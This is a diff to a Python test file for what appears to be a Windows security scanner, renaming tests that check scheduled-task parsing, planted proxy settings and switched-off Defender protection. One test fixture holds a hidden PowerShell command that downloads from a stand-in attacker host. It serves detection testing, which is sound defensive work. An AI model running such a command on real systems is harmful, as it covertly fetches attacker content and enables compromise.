@@ -90,7 +90,7 @@ def test_no_tasks_and_no_tool_is_not_clean(context: Context) -> None:
 
 
 @pytest.mark.parametrize("encoding", ["utf-16", "utf-8"])
-def test_tasks(encoding: str) -> None:
+def test_a_task_gives_the_command_that_it_starts(encoding: str) -> None:
     text = "<Task><Actions><Exec><Command>powershell.exe</Command><Arguments>-w hidden iwr http://evil.example.com</Arguments></Exec></Actions></Task>"
     (entry,) = task_entries(r"C:\Windows\System32\Tasks\x", text.encode(encoding))
     assert entry.command == "powershell.exe -w hidden iwr http://evil.example.com"
@@ -107,7 +107,7 @@ def test_tasks(encoding: str) -> None:
         ({"ProxyServer": "proxy.unit.example:3128", "ProxyEnable": 1}, set()),
     ],
 )
-def test_proxy(context: Context, values: dict[str, object], reasons: set[str]) -> None:
+def test_a_planted_proxy_is_found(context: Context, values: dict[str, object], reasons: set[str]) -> None:
     check_proxy(context, Made({("HKCU", INTERNET, name): data for name, data in values.items()}))
     assert {finding.reason for finding in context.findings} == reasons
 
@@ -131,7 +131,7 @@ def test_proxy(context: Context, values: dict[str, object], reasons: set[str]) -
         ((rf"{DEFENDER}\Real-Time Protection", "DisableRealtimeMonitoring"), 0, []),
     ],
 )
-def test_protection(
+def test_protection_that_is_switched_off_is_found(
     context: Context, key: tuple[str, str], data: object, found: list[tuple[str, str]]
 ) -> None:
     check_protection(context, Made({("HKLM", *key): data}))
